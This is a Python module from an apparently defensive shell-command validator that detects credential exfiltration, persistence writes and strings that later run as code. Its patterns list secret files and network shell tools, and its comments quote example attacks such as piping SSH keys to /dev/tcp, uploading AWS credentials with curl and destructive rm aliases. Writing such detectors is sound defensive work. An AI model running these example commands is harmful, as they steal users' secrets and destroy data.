"""What a line does, beyond how it is spelled: where secrets go, what stays behind to run later,
and which text becomes code.

The rules in rules.py judge one command by its program and words. These judge effects, so that a
new spelling of a known harm falls under the same check:
- *data flow*: a secret source (keys, cloud and kube credentials, netrc, shadow, shell history,
  the environment) reaching a network sink in the same pipeline, or uploaded by one command;
- *persistence*: writing to files that run or grant access later (shell rc files, crontabs,
  systemd and launchd units, git hooks and config, authorized_keys, sudoers), and uid-0 accounts;
- *text that becomes code*: one table of the consumers that run a string later or elsewhere
  (alias, trap, PROMPT_COMMAND and program-naming variables, at, tmux, screen, script, sed's `e`,
  tar's checkpoint actions, vim's `!`, git's aliases and hooks-like settings, ssh's ProxyCommand).
The validator calls `later_code` for every command and `flows` for every pipeline; both are pure.
"""

from __future__ import annotations

import functools
import re
import shlex
from collections.abc import Callable

from ..cmdline.commands import FETCHERS, Cmd

# ---- secrets and the network ------------------------------------------------------------------

SECRET_PATH = re.compile(
    r"(?:^|/|~)(?:\.ssh/(?:id_[\w*?\[\]-]+(?<!\.pub)|[\w.-]*_(?:rsa|ed25519|ecdsa|dsa))$|\.ssh/[\w.-]*key(?<!\.pub)$"
    # a whole folder of secrets, or every file in it
    r"|\.(?:ssh|aws|kube|docker)/?\*?$"
    r"|\.gnupg(?:/|$)|\.aws/credentials$|\.aws/config$|\.kube/config$|\.netrc$|\.pgpass$|\.my\.cnf$"
    r"|\.docker/config\.json$|\.git-credentials$|\.config/gh/hosts\.yml$|\.vault-token$|\.npmrc$|\.pypirc$"
    r"|(?:^|/)etc/(?:shadow|gshadow|sudoers)$|\.(?:bash|zsh|fish|sh|psql|mysql)_history$|\.z?histfile$|\.local/share/fish/fish_history$"
    r"|\.password-store(?:/|$)|\.config/rclone/rclone\.conf$|\.azure(?:/|$)|\.config/gcloud(?:/|$)"
    r"|\.env$|/proc/[\w]+/environ$"
    # browsers' saved logins and cookies, and the folders that hold them
    r"|\.mozilla(?:/|$)|\.config/(?:google-chrome|chromium|BraveSoftware)(?:/|$)|Library/Keychains(?:/|$)"
    r"|Library/Application Support/(?:Google/Chrome|Firefox)(?:/|$)|(?:^|/)(?:logins\.json|key[34]\.db|Login Data|Cookies)$)"
)
# programs whose output is the user's secrets or environment
SECRET_PRINTERS = {"env": "the environment", "printenv": "the environment", "export": "the environment"}
NETCAT = frozenset("nc ncat netcat socat telnet openssl cryptcat pwncat".split())
DNS_TOOLS = frozenset("dig nslookup host ping ping6 drill resolvectl getent traceroute".split())
_UPLOAD_OPTS = re.compile(
    r"^(?:-d|--data(?:-binary|-raw|-urlencode|-ascii)?|-F|--form|-T|--upload-file|--post-file|--post-data|--body-file|--body-data|--json)(?:=(.*))?$"
)


def _tilde(path: str) -> str:
    return path.replace("$HOME", "~").replace("${HOME}", "~")


def secret_in(word: str) -> str | None:
    """The secret file a word names (`~/.ssh/id_rsa`, `@$HOME/.aws/credentials`, `x=@~/.netrc`)."""
    w = _tilde(word).split("=@", 1)[-1].lstrip("@<")
    return w if SECRET_PATH.search(w) else None


def secret_source(cmd: Cmd) -> str | None:
    """What secret this command reads and passes on (its output or its upload), or None."""
    if cmd.name in SECRET_PRINTERS and not [a for a in cmd.args if not a.startswith("-")]:
        return SECRET_PRINTERS[cmd.name]
    if cmd.name == "set" and not cmd.args:
        return "the environment"
    if cmd.name == "history":
        return "your shell history"
    if printed := _printed_secret(cmd):
        return printed
    for a in cmd.args:
        if s := secret_in(a):
            return s
    for r in cmd.redirects:
        if r.op == "<" and secret_in(r.target):
            return r.target
    return next((found for sub in cmd.subs if (found := substituted_secret(sub))), None)


# programs that print the files they are given (what a `$(cat ~/.netrc)` word becomes)
_PRINTERS = frozenset("cat head tail tac less more base64 xxd od strings gzip zcat".split())


def substituted_secret(sub: str) -> str | None:
    """The secret a substitution's text prints: `$(<~/.zsh_history)`, `$(cat ~/.ssh/id_rsa)`,
    `(env | string collect)`."""
    first = re.split(r"[|;&]", sub, maxsplit=1)[0].split()
    if not first:
        return None
    if first[0].startswith("<"):
        path = first[0][1:] or (first[1] if len(first) > 1 else "")
        return path if secret_in(path) else None
    if first[0] in SECRET_PRINTERS and len(first) == 1:
        return SECRET_PRINTERS[first[0]]
    if first[0] in _PRINTERS:
        return next((w for w in first[1:] if secret_in(w)), None)
    return _printed_secret(Cmd(first[0].rsplit("/", 1)[-1], first[1:]))


def _printed_secret(cmd: Cmd) -> str | None:
    """Programs that print a stored secret: keychains, password stores, cloud and forge tokens."""
    a = cmd.args
    if cmd.name in ("gpg", "gpg2") and any(x.startswith("--export-secret") for x in a):
        return "your private gpg keys"
    if cmd.name == "security" and a[:1] and a[0].startswith("find-") and "password" in a[0] and cmd.has("w", "g"):
        return "a password from the keychain"
    if cmd.name == "security" and a[:1] == ["dump-keychain"] and cmd.has("d"):
        return "your keychain's passwords"
    if cmd.name == "fc" and cmd.has("l"):
        return "your shell history"
    if cmd.name in ("pass", "gopass") and a[:1] in (["show"], ["cat"]) or cmd.name == "op" and a[:1] == ["read"]:
        return "a password from your password store"
    if cmd.name in ("gh", "glab") and a[:2] == ["auth", "token"]:
        return f"your {cmd.name} token"
    if cmd.name == "gcloud" and "print-access-token" in a or cmd.name == "az" and "get-access-token" in a:
        return f"your {cmd.name} access token"
    if cmd.name == "aws" and a[:2] == ["configure", "get"] and any("secret" in x or "token" in x for x in a[2:]):
        return "your AWS secret"
    if cmd.name == "aws" and a[:2] == ["configure", "export-credentials"]:
        return "your AWS credentials"
    if cmd.name == "kubectl" and a[:1] == ["get"] and re.match(r"secrets?(?:/|$)", " ".join(a[1:2])):
        return f"secrets from {cmd.name}"
    if cmd.name in ("kubectl", "oc") and a[:2] == ["config", "view"] and any(x in ("--raw", "--flatten") for x in a):
        return "your cluster credentials"
    if cmd.name == "vault" and a[:1] in (["read"], ["kv"]):
        return f"secrets from {cmd.name}"
    if cmd.name == "secret-tool" and a[:1] == ["lookup"]:
        return "a password from the keyring"
    return None


def _remote_operand(word: str) -> bool:
    """`host:path`, `user@host:path`, `rsync://…` — not `./a:b` or a drive letter."""
    return bool(re.match(r"^(?:[\w.-]+@)?[\w.-]+:(?!//)", word) or word.startswith(("rsync://", "sftp://", "scp://")))


def network_sink(cmd: Cmd) -> str | None:
    """Where this command sends what it reads (stdin or files it is given), or None."""
    if any(r.op in (">", ">>", "<>", ">&") and re.match(r"/dev/(tcp|udp)/", r.target) for r in cmd.redirects):
        return next(r.target for r in cmd.redirects if r.target.startswith("/dev/"))
    if cmd.name in NETCAT and [a for a in cmd.operands if not a.startswith("-")]:
        if cmd.name == "openssl" and cmd.args[:1] != ["s_client"]:
            return None
        return f"{cmd.name} {' '.join(cmd.operands[:2])}"
    if cmd.name in ("curl", "wget", "http", "https", "xh") and any(_upload_opt(cmd, a) for a in cmd.args):
        return f"{cmd.name} (an upload)"
    if cmd.name in FETCHERS and cmd.from_stdin:
        return f"{cmd.name} (what it is fed goes into the address)"  # `… | xargs -I{} curl "https://h/?d={}"`
    if cmd.name == "aws" and cmd.args[:1] == ["s3"] and any(o.startswith("s3://") for o in cmd.operands[2:]):
        return "aws s3 (an upload)"
    if cmd.name in ("gsutil", "rclone") and any(re.match(r"(?:gs://|[\w-]+:)", o) for o in cmd.operands[2:]):
        return f"{cmd.name} (an upload)"
    if cmd.name in ("scp", "rsync", "sftp") and any(_remote_operand(o) for o in cmd.operands[1:]):
        return next(o for o in cmd.operands[1:] if _remote_operand(o))
    if cmd.name in ("ssh", "mosh") and cmd.operands:
        return f"ssh {cmd.operands[0]}"
    if cmd.name in ("mail", "mailx", "sendmail", "mutt"):
        return f"{cmd.name} (an email)"
    return None


def _upload_opt(cmd: Cmd, a: str) -> re.Match | None:
    """An option that uploads, also at the end of curl's short cluster (`-sT -`, `-sF f=@x`)."""
    if cmd.name == "curl" and (m := re.fullmatch(r"-[a-zA-Z]*([dFT])", a)):
        return _UPLOAD_OPTS.match("-" + m.group(1))
    return _UPLOAD_OPTS.match(a)


def uploaded_secret(cmd: Cmd) -> str | None:
    """A secret file this one command sends out (`curl -d @~/.aws/credentials`, `scp ~/.ssh/id_rsa h:`)."""
    if not network_sink(cmd):
        return None
    args = cmd.args
    for k, a in enumerate(args):
        m = _upload_opt(cmd, a)
        value = m.group(1) if m and m.group(1) is not None else args[k + 1] if m and k + 1 < len(args) else None
        substituted = value is not None and (value == "@" or "<(" in value or "$(" in value or "…" in value)
        # `--data-binary @<(gpg --export-secret-keys)`: what the substitution prints is sent
        if substituted and (s := next((found for sub in cmd.subs if (found := substituted_secret(sub))), None)):
            return s
        file_arg = value is not None and (
            value.startswith("@") or "=@" in value or a.split("=", 1)[0] in ("-T", "--upload-file", "--post-file")
        )
        if file_arg and (s := secret_in(value or "")):
            return s
    if cmd.name in ("scp", "rsync", "sftp", "aws", "gsutil", "rclone"):
        return next((s for o in cmd.operands[:-1] if (s := secret_in(o))), None)
    if cmd.name == "socat":  # `socat -u FILE:~/.bash_history TCP:host:port`: one address reads, one sends
        files = [a.split(":", 1)[1].split(",")[0] for a in cmd.operands if re.match(r"(?i)(?:g?open|file|create):", a)]
        nets = [a for a in cmd.operands if re.match(r"(?i)(?:tcp|udp|sctp|openssl|ssl|socks\d?a?|proxy)[46]?[-:]", a)]
        if nets and (s := next((s for f in files if (s := secret_in(f))), None)):
            return s
    # `ncat host port < ~/.docker/config.json`: the secret is its input
    fed = next((r.target for r in cmd.redirects if r.op == "<" and secret_in(r.target)), None)
    if fed is None and any(r.op != "<" and r.target.startswith(("/dev/tcp/", "/dev/udp/")) for r in cmd.redirects):
        return secret_source(cmd)  # `cat ~/.ssh/id_rsa > /dev/tcp/…`: what it prints goes out
    return fed


def fed_from_network(cmd: Cmd) -> bool:
    return any(n in FETCHERS for n in cmd.pipe_before) or cmd.name in FETCHERS


# ---- files that run or grant access later -----------------------------------------------------

PERSISTENT = re.compile(
    r"(?:^|/|~)(?:\.(?:bash|zsh)rc|\.bash_(?:profile|login|logout|aliases)|\.profile|\.zprofile|\.zshenv|\.zlogin|\.inputrc"
    # editors and tools that run commands from their startup files
    r"|\.g?vimrc|\.exrc|\.config/nvim/init\.(?:vim|lua)|\.emacs|\.emacs\.d/init\.el|\.tmux\.conf|\.envrc|\.npmrc"
    r"|\.config/fish/(?:config\.fish|conf\.d/[^/]+|functions/[^/]+)|\.xinitrc|\.xprofile|\.config/autostart/[^/]+"
    r"|\.ssh/authorized_keys2?|\.ssh/rc|\.ssh/config|\.git/hooks/[^/]+|\.git/config|\.gitconfig|\.config/git/config"
    r"|\.config/systemd/user/[^/]+|Library/LaunchAgents/[^/]+|Library/LaunchDaemons/[^/]+"
    r"|etc/(?:profile(?:\.d/[^/]+)?|bash\.bashrc|zsh/\w+|environment|ld\.so\.preload|rc\.local|sudoers(?:\.d/[^/]+)?"
    r"|cron\.(?:d|daily|hourly|weekly|monthly)/[^/]+|crontab|systemd/system/[^/]+|init\.d/[^/]+|passwd|group"
    # udev runs a rule's RUN+= program as root whenever a matching device appears
    r"|udev/rules\.d/[^/]+)"
    r"|var/spool/cron/(?:crontabs/)?[^/]+)$"
)


def persistent_target(path: str) -> str | None:
    p = _tilde(path)
    return path if PERSISTENT.search(p) else None


def writes(cmd: Cmd) -> list[str]:
    """Files this command writes or appends to: redirections, tee, and `cp`/`mv`/`install` targets."""
    out = [r.target for r in cmd.redirects if r.op in (">", ">>", ">|", "&>", "&>>")]
    if cmd.name == "tee":
        out += [o for o in cmd.operands if o != "-"]
    out += copy_targets(cmd)
    if cmd.name == "defaults" and cmd.args[:1] == ["write"] and len(cmd.args) >= 2 and "/" in cmd.args[1]:
        # a domain given as a path is that plist file (`.plist` added when missing)
        out.append(cmd.args[1] if cmd.args[1].endswith(".plist") else cmd.args[1] + ".plist")
    if cmd.name in ("curl", "wget"):
        short = "o" if cmd.name == "curl" else "O"  # the option that names the file (`-so F`, `-qO F`)
        for k, a in enumerate(cmd.args):
            if a.startswith(("--output=", "--output-document=")):
                out.append(a.split("=", 1)[1])
            elif k + 1 < len(cmd.args) and (
                a in ("--output", "--output-document") or re.fullmatch(rf"-[A-Za-z]*{short}", a)
            ):
                out.append(cmd.args[k + 1])
    return out


def copy_targets(cmd: Cmd) -> list[str]:
    """The files cp/mv/install/ln/rsync write: the destination, or each source's name inside it
    when it is a folder (`cp a/.bashrc b/.gitconfig ~/` writes ~/.bashrc and ~/.gitconfig)."""
    ops = cmd.operands
    if cmd.name not in ("cp", "mv", "install", "ln", "rsync") or len(ops) < 2:
        return []
    folder = next((cmd.args[k + 1] for k, a in enumerate(cmd.args[:-1]) if a in ("-t", "--target-directory")), None)
    folder = folder or next((a.split("=", 1)[1] for a in cmd.args if a.startswith("--target-directory=")), None)
    sources, dest = (ops, folder) if folder else (ops[:-1], ops[-1])
    if folder or dest.endswith("/") or dest in ("~", "$HOME", "${HOME}", ".") or len(sources) > 1:
        return [dest.rstrip("/") + "/" + s.rstrip("/").rsplit("/", 1)[-1] for s in sources]
    return [dest]


def located(cmd: Cmd) -> list[str]:
    """Programs its words look up where they are installed: `$(which bash)`, `(command -v python3)`."""
    found = (
        re.fullmatch(r"\s*(?:command\s+(?:-[vs]|--search)|which|type\s+-[pP])\s+(\S+)\s*", sub) for sub in cmd.subs
    )
    return [m.group(1) for m in found if m]


def archive_output(cmd: Cmd) -> str | None:
    """The file an archiver or encrypter writes: `zip out.zip …`, `tar czf out.tgz …`, `gpg -o out …`."""
    args = cmd.args
    if cmd.name == "zip":
        return cmd.operands[0] if cmd.operands else None
    if cmd.name in ("7z", "7za", "7zz") and cmd.operands[:1] == ["a"] and len(cmd.operands) > 1:
        return cmd.operands[1]
    if cmd.name in ("tar", "gtar", "bsdtar"):
        for k, a in enumerate(args):
            if a.startswith("--file="):
                return a.split("=", 1)[1]
            # `-f X`, `--file X`, and `f` in a cluster (`czf X`, `-cvzf X`): the archive is the next word
            if (a == "--file" or re.fullmatch(r"-?[A-Za-z]*f", a) and not a.startswith("--")) and k + 1 < len(args):
                return args[k + 1]
    if cmd.name in ("gpg", "gpg2", "openssl", "age"):
        for k, a in enumerate(args[:-1]):
            if a in ("-o", "--output", "-out"):
                return args[k + 1]
    return None


_SHARED_DIR = re.compile(r"^(?:/tmp|/var/tmp|/dev/shm)(?:/[^/]+)?/?$")  # the shared folder or one just inside it


def shared_dir_first_on_path(words: list[str]) -> str | None:
    """A folder every local user can write to put first on PATH (`PATH=/tmp/bin:$PATH`, fish's
    `set -U fish_user_paths /tmp/bin …`): a program placed there runs in place of yours."""
    appends = "-a" in words or "--append" in words  # fish's `set -a PATH …` puts it last
    for k, w in enumerate(words):
        m = re.fullmatch(r"PATH=[\"']?([^:\"']*)(?::.*)?", w)
        if m and _SHARED_DIR.match(m.group(1)):
            return m.group(1)
        if w in ("PATH", "fish_user_paths") and not appends and k + 1 < len(words) and _SHARED_DIR.match(words[k + 1]):
            return words[k + 1]  # fish: `set -gx PATH /tmp/bin $PATH`
        if w == "fish_add_path" and not appends:
            return next((x for x in words[k + 1 :] if _SHARED_DIR.match(x)), None)
    return None


def root_account(cmd: Cmd) -> str | None:
    """useradd/usermod/adduser that makes a uid-0 account (`-o -u 0`), or None."""
    if cmd.name not in ("useradd", "usermod", "adduser", "luseradd"):
        return None
    args = cmd.args
    for k, a in enumerate(args):
        if a in ("-u", "--uid") and k + 1 < len(args) and args[k + 1].lstrip("0") == "" and args[k + 1]:
            return "uid 0"
        if re.fullmatch(r"(?:-u|--uid=)0+", a):
            return "uid 0"
    return None


# ---- text that becomes code ----------------------------------------------------------------------

# variables whose value a program runs as a command (or loads as code)
CODE_VARS = frozenset(
    "PROMPT_COMMAND PS0 precmd_functions preexec_functions EDITOR VISUAL PAGER MANPAGER GIT_PAGER GIT_EDITOR "
    "GIT_SSH_COMMAND GIT_SSH GIT_ASKPASS SSH_ASKPASS SUDO_ASKPASS BROWSER LESSOPEN LESSCLOSE LD_PRELOAD "
    "BASH_ENV ENV ZDOTDIR PYTHONSTARTUP PERL5OPT NODE_OPTIONS RUBYOPT SHELL TERMINAL DIFFPROG".split()
)
_GIT_CODE_KEYS = re.compile(
    r"^(?:alias\.[\w-]+|core\.(?:pager|sshcommand|editor|fsmonitor|hookspath|askpass)"
    r"|pager\.[\w-]+|diff\.external|sequence\.editor|credential\.helper|gpg\.program"
    r"|filter\.[\w-]+\.(?:clean|smudge|process)|merge\.[\w-]+\.driver|diff\.[\w-]+\.textconv)$",
    re.IGNORECASE,
)
_SSH_CODE_OPTS = re.compile(
    r"^(?:ProxyCommand|LocalCommand|KnownHostsCommand|RemoteCommand)\s*[= ]\s*(.+)$", re.IGNORECASE
)
_TMUX_RUNS = frozenset(
    "new-session new new-window neww split-window splitw respawn-pane respawnp respawn-window "
    "respawnw run-shell run display-popup popup".split()
)
_TMUX_VALUE = set("tscnFxyeIlp")


def _var_code(name: str, value: str) -> str:
    """A code variable's value as shell text: less's input preprocessor is written `|cmd %s`
    (`||` and `|-` are its variants), a pipe from a program, not a pipeline missing its start."""
    return re.sub(r"^\s*\|[|-]?", "", value) if name in ("LESSOPEN", "LESSCLOSE") else value


def assignment_code(word: str) -> str | None:
    """The code in `PROMPT_COMMAND='…'`, `EDITOR=…` (assignment words keep their quotes here)."""
    name, eq, value = word.partition("=")
    name = name.rstrip("+")
    if not (eq and name in CODE_VARS and value):
        return None
    try:
        parts = shlex.split(value)
    except ValueError:
        return _var_code(name, value)
    return _var_code(name, " ".join(parts) if len(parts) == 1 else value)


def aliases(cmd: Cmd) -> list[tuple[str, str]]:
    """The (name, text) pairs an `alias` defines: `alias ls='rm -rf'`, fish's `alias ls 'rm -rf'`."""
    if cmd.name != "alias":
        return []
    words = [a for a in cmd.args if not a.startswith("-")]
    if len(words) == 2 and "=" not in words[0]:
        return [(words[0], words[1])]
    return [(a.split("=", 1)[0], a.split("=", 1)[1]) for a in words if "=" in a]


# programs that destroy what they are given: an everyday command made into one of them destroys
# whatever the user next names (`alias ls='rm -rf'`: `ls ~/work` deletes it)
DESTROYERS = frozenset("rm shred srm wipe wipefs dd truncate unlink".split())


def alias_sabotage(cmd: Cmd, exists: Callable[[str], bool]) -> tuple[str, str] | None:
    """(name, program) when an alias turns a command the user already types into a destroyer."""
    for name, text in aliases(cmd):
        words = [w for w in text.split() if w not in ("sudo", "command", "builtin", "env", "nice", "nohup")]
        prog = words[0].rsplit("/", 1)[-1] if words else ""
        if (prog in DESTROYERS or prog.startswith("mkfs")) and prog != name and exists(name):
            return name, prog
    return None


def later_code(cmd: Cmd) -> list[str]:
    """Shell text this command stores or hands on to be run (now elsewhere, or later)."""
    name, args = cmd.name, cmd.args
    out: list[str] = []
    if name == "alias":
        out += [text for _, text in aliases(cmd)]
    elif name == "trap" and len(args) >= 2 and args[0] not in ("-p", "-l"):
        out.append(args[0])
    elif name == "set" and args and args[0].startswith("-") and len(args) >= 3 and args[1] in CODE_VARS:
        out.append(_var_code(args[1], " ".join(args[2:])))  # fish: set -gx EDITOR 'rm -rf ~'
    elif name in ("at", "batch"):
        out += [r.target for r in cmd.redirects if r.op == "<<<"] + ([cmd.heredoc] if cmd.heredoc else [])
    elif name == "tmux":
        i = next((k for k, a in enumerate(args) if a in _TMUX_RUNS or a == "send-keys" or a == "send"), None)
        if i is not None:
            rest, k = [], i + 1
            while k < len(args):
                a = args[k]
                if a.startswith("-") and len(a) == 2 and a[1] in _TMUX_VALUE:
                    k += 2
                    continue
                if not a.startswith("-"):
                    rest.append(a)
                k += 1
            if args[i] in ("send-keys", "send"):
                rest = [r for r in rest if r not in ("Enter", "C-m", "KPEnter")]
            if rest:
                out.append(" ".join(rest))
    elif name == "screen":
        k = 0
        while k < len(args) and args[k].startswith("-"):
            k += 2 if args[k] in ("-S", "-c", "-T", "-h", "-p", "-X", "-e", "-s") else 1
        if k < len(args):
            out.append(" ".join(args[k:]))
    elif name == "script":
        for k, a in enumerate(args[:-1]):
            if a == "--command" or (a.startswith("-") and not a.startswith("--") and "c" in a[1:]):
                out.append(args[k + 1])
                break
    elif name == "defaults" and args[:1] == ["write"] and len(args) >= 4 and args[2] == "ProgramArguments":
        # a launchd job's program and its arguments, one word each (`-array /bin/sh -c '…'`)
        out.append(shlex.join(a for a in args[3:] if a not in ("-array", "-string")))
    elif name in ("sed", "gsed"):
        scripts = [args[k + 1] for k, a in enumerate(args[:-1]) if a in ("-e", "--expression")]
        if not scripts:
            scripts = [a for a in args if not a.startswith("-")][:1]
        for s in scripts:
            # GNU sed's `e COMMAND` runs COMMAND; after an address (`1e`, `$e`, `/x/e`) too
            out += [e.group(1) for e in re.finditer(r"(?:^|[;\n{}]|\d|\$|/)\s*e\s+([^;\n}]+)", s)]
    elif name in ("tar", "gtar", "bsdtar"):
        for k, a in enumerate(args):
            action = re.match(
                r"^--(?:checkpoint-action=exec|to-command|use-compress-program|info-script|new-volume-script)=(.+)$", a
            )
            if action:
                out.append(action.group(1))
            elif a in ("-I", "-F", "--to-command", "--use-compress-program", "--info-script") and k + 1 < len(args):
                out.append(args[k + 1])
    elif name in ("vim", "vi", "nvim", "ex", "view", "gvim", "rvim", "vimdiff"):
        cmds = [args[k + 1] for k, a in enumerate(args[:-1]) if a in ("-c", "--cmd")] + [
            a[1:] for a in args if a.startswith("+")
        ]
        for c in cmds:
            m = re.match(r"^\s*:?\s*(?:silent!?\s+)?!(.+)$", c) or re.search(r"\bsystem\(\s*['\"](.+?)['\"]\s*\)", c)
            if m:
                out.append(m.group(1))
    elif name == "git":
        for k, a in enumerate(args[:-1]):
            if a == "-c" or a == "--config-env":
                key, _, value = args[k + 1].partition("=")
                if _GIT_CODE_KEYS.match(key) and value:
                    out.append(value.lstrip("!"))
        if "config" in args:
            rest = [a for a in args[args.index("config") + 1 :] if not a.startswith("-")]
            if len(rest) >= 2 and _GIT_CODE_KEYS.match(rest[0]):
                out.append(rest[1].lstrip("!"))
    elif name in ("ssh", "scp", "sftp", "autossh"):
        for k, a in enumerate(args):
            opt = (
                a[2:] if a.startswith("-o") and len(a) > 2 else args[k + 1] if a == "-o" and k + 1 < len(args) else None
            )
            if opt and (ssh_code := _SSH_CODE_OPTS.match(opt)):
                out.append(ssh_code.group(1))
    elif name in _COMMAND_OPTIONS:
        out += _option_values(args, *_COMMAND_OPTIONS[name])
    elif name == "systemd-run":
        k = 0
        while k < len(args) and args[k].startswith("-"):
            k += 2 if args[k] in _SYSTEMD_RUN_VALUE else 1
        if k < len(args):
            out.append(shlex.join(args[k:]))
    elif name == "launchctl" and args[:1] == ["submit"] and "--" in args:
        out.append(shlex.join(args[args.index("--") + 1 :]))  # a job launchd keeps running
    elif name == "expect":
        for k, a in enumerate(args[:-1]):
            if a == "-c":
                out += re.findall(r"\bspawn\s+(?:-\w+\s+)*([^;\n\]]+)", args[k + 1])
    elif name in ("less", "more"):
        out += [a[2:] for a in args if a.startswith("+!")]  # less's `!` runs a shell command
    return out


# programs' options whose value is a command they run: (the short spelling, the long one)
_COMMAND_OPTIONS = {
    "rsync": ("-e", "--rsh"),  # the remote shell
    "man": ("-P", "--pager"),
    "zip": ("-TT", "--unzip-command"),  # the "test" command zip runs on the archive
}


def _option_values(args: list[str], short: str, long: str) -> list[str]:
    """The values of an option given as `-X VALUE`, `--long VALUE` or `--long=VALUE`."""
    out = []
    for k, a in enumerate(args):
        if a.startswith(long + "="):
            out.append(a[len(long) + 1 :])
        elif a in (short, long) and k + 1 < len(args):
            out.append(args[k + 1])
    return out


# systemd-run options that take the next word as their value
_SYSTEMD_RUN_VALUE = frozenset(
    "-p --property -u --unit --description --slice -E --setenv --uid --gid -M --machine -H --host "
    "--working-directory -D --nice --on-active --on-boot --on-startup --on-unit-active --on-unit-inactive "
    "--on-calendar --timer-property --path-property --socket-property -C --capsule".split()
)


def decode_escapes(text: str) -> str:
    """What printf (and echo -e) print for `\\xHH`, `\\NNN` and `\\uHHHH`: code hidden as escapes is
    still code."""

    def one(m: re.Match) -> str:
        e = m.group(1)
        if e in _C_ESCAPES:
            return _C_ESCAPES[e]
        try:
            if e[0] == "x":
                return chr(int(e[1:], 16))
            if e[0] in "uU":
                return chr(int(e[1:], 16))
            return chr(int(e, 8) & 0xFF)
        except ValueError:
            return m.group()

    return re.sub(r"\\(x[0-9a-fA-F]{1,2}|u[0-9a-fA-F]{4}|U[0-9a-fA-F]{8}|0?[0-7]{1,3}|[ntrfv\\])", one, text)


_C_ESCAPES = {"n": "\n", "t": "\t", "r": "\r", "f": "\f", "v": "\v", "\\": "\\"}


_DOCKER_VALUE_OPTS = frozenset(
    "-v --volume --mount -e --env --env-file -p --publish --name -w --workdir -u --user --network --net "
    "--entrypoint -h --hostname --label -l --cpus -m --memory --device --add-host --dns --restart --platform "
    "--pull --log-driver --log-opt --cap-add --cap-drop --security-opt --tmpfs --ulimit --ipc --pid --userns".split()
)


def _mapped(base: str, m: re.Match) -> str:
    """A container path under a mount point, as the host path it is (`/host/etc` → `/etc`)."""
    return (base + (m.group(1) or "")) or "/"


def container_command(cmd: Cmd) -> str | None:
    """`docker run -v /:/host alpine rm -rf /host`: the container's command with the host folders it
    mounts put back in place of their mount points, so it is judged as what it does to this machine;
    `docker exec`/`kubectl exec` run in a live container, whose data is real, so theirs is judged too."""
    if cmd.name in ("kubectl", "oc") and cmd.args[:1] == ["exec"] and "--" in cmd.args:
        return shlex.join(cmd.args[cmd.args.index("--") + 1 :])  # runs in a live pod, with its data and secrets
    if cmd.name not in ("docker", "podman", "nerdctl") or not cmd.args or cmd.args[0] not in ("run", "exec"):
        return None
    args = cmd.args[1:]
    mounts: list[tuple[str, str]] = []
    k = 0
    while k < len(args) and args[k].startswith("-"):
        a = args[k]
        opt, eq, inline = a.partition("=")
        value = inline if eq else (args[k + 1] if opt in _DOCKER_VALUE_OPTS and k + 1 < len(args) else None)
        if opt in ("-v", "--volume") and value and ":" in value:
            src, dst = value.split(":")[:2]
            mounts.append((src, dst))
        elif opt == "--mount" and value:
            kv = dict(p.split("=", 1) for p in value.split(",") if "=" in p)
            source = kv.get("source") or kv.get("src")
            target = kv.get("target") or kv.get("destination") or kv.get("dst")
            if source and target:
                mounts.append((source, target))
        k += 1 if eq or opt not in _DOCKER_VALUE_OPTS else 2
    if cmd.args[0] == "exec":
        k += 1  # the container's name
    inner = args[k + 1 :] if cmd.args[0] == "run" else args[k:]
    if not inner or (not mounts and cmd.args[0] == "run"):
        return None  # a fresh container without this machine's folders harms only itself

    def host(word: str) -> str:
        # anywhere in the word, so a script the container runs (`sh -c 'rm -rf /h/*'`) is mapped too
        for src, dst in sorted(mounts, key=lambda m: -len(m[1])):
            point = dst.rstrip("/")
            if not point:
                continue
            found = re.compile(rf"(?<![\w./-]){re.escape(point)}(/[^\s'\";|&)]*)?(?=$|[\s'\";|&)])")
            if found.search(word):
                return found.sub(functools.partial(_mapped, src.rstrip("/")), word)
        return word

    return shlex.join(host(w) for w in inner)
